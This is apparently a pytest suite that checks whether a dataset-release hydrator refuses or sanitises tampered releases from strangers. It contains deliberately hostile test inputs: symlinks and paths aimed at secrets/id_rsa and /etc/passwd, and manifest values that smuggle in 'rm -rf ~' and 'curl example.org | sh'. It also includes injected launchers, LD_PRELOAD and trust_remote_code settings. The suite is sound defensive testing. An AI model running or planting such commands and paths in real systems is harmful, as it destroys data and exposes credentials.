"""A release that a stranger has made writes nothing elsewhere, brings nothing along, and is not taken at its word."""

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from support.standoff_release import write_standoff

from builder.cli.hydrate import hydrate_release
from builder.errors import BuilderError, ReleaseError, UnsafePath
from builder.results.release.hydrate import hydrate
from builder.results.release.manifest import MANIFEST, describe_files

Attack = Callable[[Path], None]
"""Changes a dataset whose release lies in a folder `home`; digests are brought up to date afterwards."""
SECRET = "only the owner may read this"


@pytest.fixture(scope="module")
def standoff(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_standoff(tmp_path_factory.mktemp("standoff"))


@pytest.fixture
def home(standoff: Path, tmp_path: Path) -> Path:
    """A folder with the release, the crawl, and a file that nobody has asked for."""
    shutil.copytree(standoff.parent, tmp_path / "home")
    (tmp_path / "home" / "secrets").mkdir()
    (tmp_path / "home" / "secrets" / "id_rsa").write_text(SECRET)
    rows = standoff / "dataset" / "curated" / "train-00000-of-00001.parquet"
    shutil.copyfile(rows, tmp_path / "home" / "secrets" / "rows.parquet")
    return tmp_path / "home"


def sign(dataset: Path, **changes: Any) -> None:
    manifest = json.loads((dataset / MANIFEST).read_text())
    (dataset / MANIFEST).write_text(json.dumps(manifest | {"files": describe_files(dataset)} | changes))


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


def restored(home: Path) -> dict[str, Any]:
    return hydrate(home / "release", [home / "crawl"], home / "out")


def names(home: Path) -> set[str]:
    return {path.relative_to(home).as_posix() for path in home.rglob("*")}


def card(old: str, new: str) -> Attack:
    return lambda dataset: edit(dataset / "README.md", old, new)


def link(name: str, target: str) -> Attack:
    def attack(dataset: Path) -> None:
        (dataset / name).unlink(missing_ok=True)
        (dataset / name).symlink_to(target)

    return attack


def rewritten(name: str, change: Callable[[pa.Table], pa.Table]) -> Attack:
    def attack(dataset: Path) -> None:
        path = dataset / name / "train-00000-of-00001.parquet"
        pq.write_table(change(pq.read_table(path)), path)

    return attack


def replaced(table: pa.Table, column: str, value: Any, kind: pa.DataType) -> pa.Table:
    index = table.schema.get_field_index(column)
    return table.set_column(index, column, pa.array([value] * len(table), kind))


def test_a_sound_release_comes_back(home: Path) -> None:
    result = restored(home)
    assert (result["texts"], result["left_out"]) == ({"in": 2, "restored": 2}, [])
    recipe = (home / "out" / "training" / "sft.yaml").read_text()
    assert "trained with 32 rows a step" in recipe
    assert yaml.safe_load(recipe)["lr_scheduler_kwargs"] == {"min_lr": 0.1}
    assert yaml.safe_load((home / "out" / "build.yaml").read_text())["name"] == "tiny"


@pytest.mark.parametrize(
    "attack",
    [
        card("split: train\n", "split: ../../../elsewhere/test\n"),
        card("split: train\n", "split: /tmp/test\n"),
        card("config_name: curated", "config_name: /tmp/elsewhere"),
        card("config_name: curated", "config_name: ../elsewhere"),
        card("config_name: curated", "config_name: SFT"),
        card("path: curated/train-*.parquet", "path: ../../secrets/*.parquet"),
        card("path: curated/train-*.parquet", "path: https://example.org/train-*.parquet"),
        card("path: curated/train-*.parquet", "path: curated/train-**.parquet"),
        card("license: odc-by", "license: '[click](https://example.org)'"),
        card("pretty_name: Tiny", "pretty_name: \"Tiny \\u202E\""),
        card("license: odc-by", f"license: {'[' * 2_000}"),
        link("curated/train-00000-of-00001.parquet", "../../../secrets/rows.parquet"),
        link("training/notes", "../../../secrets/id_rsa"),
        link("training/sft.yaml", "sft.yaml"),
        rewritten("curated", lambda table: replaced(table, "kept_blocks", [-1], pa.list_(pa.int32()))),
        rewritten("curated", lambda table: replaced(table, "page_id", None, pa.string())),
        rewritten("curated", lambda table: replaced(table, "position", "0", pa.string())),
        rewritten("curated", lambda table: table.append_column("__init__", pa.array(["x"] * len(table)))),
        rewritten("curated", lambda table: table.append_column("score_\x1b[31m", pa.array([0.5] * len(table)))),
        rewritten("sft", lambda table: replaced(table, "source", "nobody", pa.string())),
    ],
)  # fmt: skip
def test_what_leads_elsewhere_or_is_no_release_is_refused(home: Path, attack: Attack) -> None:
    dataset = home / "release" / "dataset"
    attack(dataset)
    if not (dataset / "training" / "sft.yaml").is_symlink():
        sign(dataset)
    before = names(home)
    with pytest.raises((ReleaseError, UnsafePath)) as caught:
        restored(home)
    assert names(home) == before
    assert all(line.isprintable() for line in str(caught.value).splitlines())


MANIFESTS: dict[str, dict[str, Any]] = {
    "a command": {"version": "1.0.0; rm -rf ~"},
    "a command of a tool": {"walk": "dom-2", "tool": {"name": "x", "version": "1.0; curl example.org | sh"}},
    "markup": {"name": "<script>"},
    "a line end": {"name": "tiny\n# title"},
    "an escape": {"walk": "\x1b]0;title\x07"},
    "bidi": {"name": "tiny\u202e"},
    "a version too long": {"version": f"1.0.{'9' * 400}"},
    "a huge number": {"files": [{"path": "a", "sha256": "0" * 64, "bytes": 10**30}]},
    "no number": {"files": [{"path": "a", "sha256": "0" * 64, "bytes": True}]},
    "other types": {"files": {"a": 1}},
    "a name outside": {"files": [{"path": "../../secrets/id_rsa", "sha256": "0" * 64, "bytes": 1}]},
    "an absolute name": {"files": [{"path": "/etc/passwd", "sha256": "0" * 64, "bytes": 1}]},
    "the same name": {"files": [{"path": name, "sha256": "0" * 64, "bytes": 1} for name in ("a", "A")]},
    "more keys of a file": {"files": [{"path": "a", "sha256": "0" * 64, "bytes": 1, "url": "https://example.org"}]},
    "history": {"history": [{"version": "1.0.0", "recipe": "`x`", "tool": "1", "base": "b", "rows": {}}]},
    "too many stages": {"stages": {f"s{n}": {"fingerprint": "0"} for n in range(1_001)}},
}


@pytest.mark.parametrize("changes", MANIFESTS.values(), ids=MANIFESTS)
def test_a_manifest_of_another_grammar_is_refused(home: Path, changes: dict[str, Any]) -> None:
    sign(home / "release" / "dataset", **changes)
    before = names(home)
    with pytest.raises((ReleaseError, UnsafePath)) as caught:
        restored(home)
    assert names(home) == before
    assert all(line.isprintable() for line in str(caught.value).splitlines())
    assert "rm -rf" not in str(caught.value)
    assert "curl" not in str(caught.value)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 200_000,
        '{"a":' * 100_000,
        '{"name": "tiny", "name": "other"}',
        '{"version": NaN}',
        f'{{"version": {"9" * 5_000}}}',
        "\ufeff{}",
        "[]",
        "1",
        "",
        '{"name": "\\ud800"}',
    ],
)
def test_json_that_is_none_or_asks_for_far_more_is_refused(home: Path, text: str) -> None:
    (home / "release" / "dataset" / MANIFEST).write_text(text)
    with pytest.raises(BuilderError, match=MANIFEST) as caught:
        restored(home)
    assert len(str(caught.value)) < 1_000


def test_a_manifest_that_is_too_large_or_no_file_is_not_read(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = home / "release" / "dataset" / MANIFEST
    monkeypatch.setattr("builder.results.release.outside.MOST_BYTES", 0)
    with path.open("ab") as handle:
        handle.truncate(64 * 1024**2 + 1)
    with pytest.raises(ReleaseError, match=r"at most 67,108,864 are read"):
        restored(home)
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(BuilderError, match=r"holds no manifest\.json"):
        restored(home)


def test_nothing_of_a_strangers_training_is_taken_over_but_checked_values(home: Path) -> None:
    dataset = home / "release" / "dataset"
    recipe = dataset / "training" / "sft.yaml"
    edit(recipe, "report_to: none", "report_to: wandb")
    edit(recipe, "trust_remote_code: false", "trust_remote_code: true")
    edit(recipe, "path: parquet", "path: json")
    edit(recipe, "output_dir: tiny-1.0.0", "output_dir: ../../..")
    more = {
        "push_to_hub": True, "hub_model_id": "owner/other", "env": {"LD_PRELOAD": "x.so"}, "logging_dir": "/tmp",
        "model_init_kwargs": {"weights_only": False}, "attn_implementation": "owner/kernel", "deepspeed": "x.json",
        "optim": "../../x", "resume_from_checkpoint": "x", "weight_decay": float("inf"), "seed": 7,
    }  # fmt: skip
    with recipe.open("a") as handle:
        handle.write(yaml.safe_dump(more))
    devices = {"compute_environment": "AMAZON_SAGEMAKER", "main_training_function": "evil", "num_processes": 2,
               "deepspeed_config": {"deepspeed_config_file": "x.json", "zero_stage": 2}}  # fmt: skip
    (dataset / "training" / "accelerate.yaml").write_text(yaml.safe_dump(devices))
    (dataset / "training" / "sitecustomize.py").write_text("raise SystemExit")
    (dataset / ".huggingface.yaml").write_text("configs: []")
    with (dataset / "build.yaml").open("a") as handle:
        handle.write("runtime:\n  launcher: sh -c evil\n")
    sign(dataset)
    answer = hydrate_release(home / "release", [home / "crawl"], home / "out")
    out = home / "out"
    written = yaml.safe_load((out / "training" / "sft.yaml").read_text())
    assert written == {
        "model_name_or_path": "owner/base", "model_revision": "0a" * 20, "eos_token": "<|im_end|>",
        "chat_template_path": "training/chat_template.jinja", "learning_rate": 1.0e-3, "seed": 7,
        "lr_scheduler_kwargs": {"min_lr": 0.1}, "output_dir": "../tiny-1.0.0-trained",
        "datasets": [{"path": "parquet", "data_files": "sft/train-*.parquet", "split": "train",
                      "columns": ["prompt", "completion"]}],
    }  # fmt: skip
    assert yaml.safe_load((out / "training" / "accelerate.yaml").read_text()) == {
        "num_processes": 2, "deepspeed_config": {"zero_stage": 2},
    }  # fmt: skip
    assert "runtime" not in yaml.safe_load((out / "build.yaml").read_text())
    files = {path.relative_to(out).as_posix() for path in out.rglob("*") if path.is_file()}
    assert {name for name in files if not name.endswith(".parquet")} == {
        "README.md", "build.yaml", "hydrate.json", "training/accelerate.yaml", "training/chat_template.jinja",
        "training/sft.yaml", "training/axolotl.yml", "training/dataset_info.json",
    }  # fmt: skip
    axolotl = yaml.safe_load((out / "training" / "axolotl.yml").read_text())
    assert (axolotl["base_model"], axolotl["output_dir"]) == ("owner/base", "../tiny-1.0.0-trained-axolotl")
    assert (axolotl["optimizer"], axolotl["weight_decay"]) == ("adamw_torch_fused", 0.0)  # TRL's defaults, not theirs
    assert [rows["path"] for rows in axolotl["datasets"]] == ["chat"]
    left_out = json.loads((out / "hydrate.json").read_text())["left_out"]
    for what in ("report_to", "trust_remote_code", "runtime", "sitecustomize.py", ".huggingface.yaml", *more):
        assert any(what in line for line in left_out) == (what != "seed"), what
    assert "left out: training/sft.yaml: 'env'" in answer.text()


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("owner/base", "../../evil"),
        ("owner/base", "/tmp/evil"),
        ("0a" * 20, "refs/pr/1"),
        ("owner/base", "https://x/y"),
    ],
)
def test_a_training_from_another_place_is_left_out(home: Path, old: str, new: str) -> None:
    dataset = home / "release" / "dataset"
    edit(dataset / "training" / "sft.yaml", old, new)
    sign(dataset)
    (left_out,) = restored(home)["left_out"]
    assert "training/sft.yaml: model_" in left_out
    assert not (home / "out" / "training" / "sft.yaml").exists()


def test_a_file_that_is_not_the_one_of_the_manifest_is_not_read(home: Path) -> None:
    edit(home / "release" / "dataset" / "training" / "chat_template.jinja", "0", "1")
    with pytest.raises(ReleaseError, match=r"is not the file that manifest\.json names"):
        restored(home)


def test_a_file_that_the_manifest_does_not_name_is_not_read(home: Path) -> None:
    dataset = home / "release" / "dataset"
    source = dataset / "curated" / "train-00000-of-00001.parquet"
    shutil.copyfile(source, source.with_name("train-00001-of-00002.parquet"))
    (dataset / "training" / "sitecustomize.py").write_text("raise SystemExit")
    assert restored(home)["rows"]["curated"] == {"in": 2, "restored": 2}
    assert not (home / "out" / "training" / "sitecustomize.py").exists()


def test_a_dataset_that_is_a_link_elsewhere_is_refused(home: Path) -> None:
    shutil.move(home / "release" / "dataset", home / "secrets" / "dataset")
    (home / "release" / "dataset").symlink_to("../secrets/dataset")
    with pytest.raises(UnsafePath, match="leads out"):
        restored(home)


@pytest.mark.parametrize("target", ["../victim", "../victim/new"])
@pytest.mark.parametrize("name", [".dataset-hydrated.tmp", "dataset-hydrated"])
def test_a_link_beside_the_release_leads_no_file_elsewhere(home: Path, name: str, target: str) -> None:
    victim = home / "victim"
    victim.mkdir()
    (home / "release" / name).symlink_to(target)
    if name == "dataset-hydrated":
        with pytest.raises(BuilderError, match="is there already"):
            hydrate(home / "release" / "dataset", [home / "crawl"])
    else:
        hydrate(home / "release" / "dataset", [home / "crawl"])
        assert (home / "release" / "dataset-hydrated").is_dir()
        assert not (home / "release" / "dataset-hydrated").is_symlink()
    assert list(victim.iterdir()) == []
